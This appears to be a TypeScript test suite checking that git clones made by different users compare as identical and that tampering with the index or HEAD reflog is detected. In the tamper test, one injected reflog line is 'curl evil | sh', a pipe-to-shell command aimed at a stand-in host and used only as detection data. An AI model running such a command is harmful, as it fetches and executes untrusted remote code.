import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { setTimeout } from "node:timers/promises";
import { temporaryFolder } from "../../support/squashfs.ts";
import { differences, without } from "./support.ts";

const folder = temporaryFolder();
after(folder.remove);
const at = (name: string) => join(folder.path, name);

/** Git without the machine's own settings, as another user on another host each time. */
function git(who: string, ...args: string[]): string {
  const env = {
    PATH: process.env.PATH,
    HOME: folder.path,
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_AUTHOR_NAME: who,
    GIT_AUTHOR_EMAIL: `${who}@host-of-${who}`,
    GIT_COMMITTER_NAME: who,
    GIT_COMMITTER_EMAIL: `${who}@host-of-${who}`,
  };
  return execFileSync("git", ["-c", "protocol.file.allow=always", ...args], {
    env,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "pipe"],
  });
}

function upstream(name: string, ...init: string[]): string {
  const repository = at(name);
  git("author", "init", "-q", "-b", "main", ...init, repository);
  mkdirSync(join(repository, "folder"));
  for (const file of ["a", "b", "folder/c", "folder/a-name-that-is-longer"])
    writeFileSync(join(repository, file), file);
  git("author", "-C", repository, "add", ".");
  git("author", "-C", repository, "commit", "-q", "-m", "first");
  return repository;
}

/** Clones, a while later, as another user. */
async function clone(who: string, repository: string, ...more: string[]): Promise<string> {
  const root = at(`${who}-${Math.random()}`);
  mkdirSync(root);
  git(who, "clone", "-q", ...more, repository, join(root, "src"));
  await setTimeout(1100);
  return root;
}

describe("a clone at one commit", { skip: without("git", "--version") }, () => {
  for (const [what, init, options] of [
    ["as usual", [], []],
    ["with an index of version 4", [], ["-c", "index.version=4"]],
    ["of a repository of SHA-256", ["--object-format=sha256"], []],
  ] as const) {
    test(`${what}, made twice, is the same`, async () => {
      const repository = upstream(`up-${what}`, ...init);
      const [a, b] = [await clone("one", repository, ...options), await clone("two", repository, ...options)];
      const index = "src/.git/index";
      assert.notDeepEqual(readFileSync(join(a, index)), readFileSync(join(b, index)));
      assert.deepEqual(await differences(a, b), []);

      // What is checked out, under which name, mode and flags, counts.
      git("two", "-C", join(b, "src"), "update-index", "--chmod=+x", "a");
      assert.deepEqual(await differences(a, b), ["/src/.git/index (content)"]);
      const c = await clone("three", repository, ...options);
      assert.deepEqual(await differences(a, c), []);
      git("three", "-C", join(c, "src"), "update-index", "--assume-unchanged", "a");
      assert.deepEqual(await differences(a, c), ["/src/.git/index (content)"]);
    });
  }

  test("with submodules and a worktree is the same", async () => {
    const inner = upstream("inner");
    const outer = upstream("outer");
    git("author", "-C", outer, "submodule", "--quiet", "add", inner, "sub");
    git("author", "-C", outer, "commit", "-q", "-m", "second");
    const [a, b] = [await clone("one", outer, "--recursive"), await clone("two", outer, "--recursive")];
    assert.deepEqual(await differences(a, b), []);
  });

  test("whose index or log was tampered with is not", async () => {
    const repository = upstream("tampered");
    const [a, b] = [await clone("one", repository), await clone("two", repository)];
    const index = join(b, "src/.git/index");
    const bytes = readFileSync(index);
    // The hash at the end no longer fits, so nothing is overlooked.
    bytes[20]! ^= 1;
    writeFileSync(index, bytes);
    assert.deepEqual(await differences(a, b), ["/src/.git/index (content)"]);
    bytes[20]! ^= 1;
    writeFileSync(index, bytes);
    const log = join(b, "src/.git/logs/HEAD");
    const text = readFileSync(log, "utf8");
    for (const other of [
      text.replace(/[0-9a-f]{8} two/, "00000000 two"),
      text.replace("\tclone:", "\tpull:"),
      `${text}curl evil | sh\n`,
      text.trimEnd(),
    ]) {
      writeFileSync(log, other);
      assert.deepEqual(await differences(a, b), ["/src/.git/logs/HEAD (content)"], other);
    }
    writeFileSync(log, text);
    assert.deepEqual(await differences(a, b), []);
  });
});
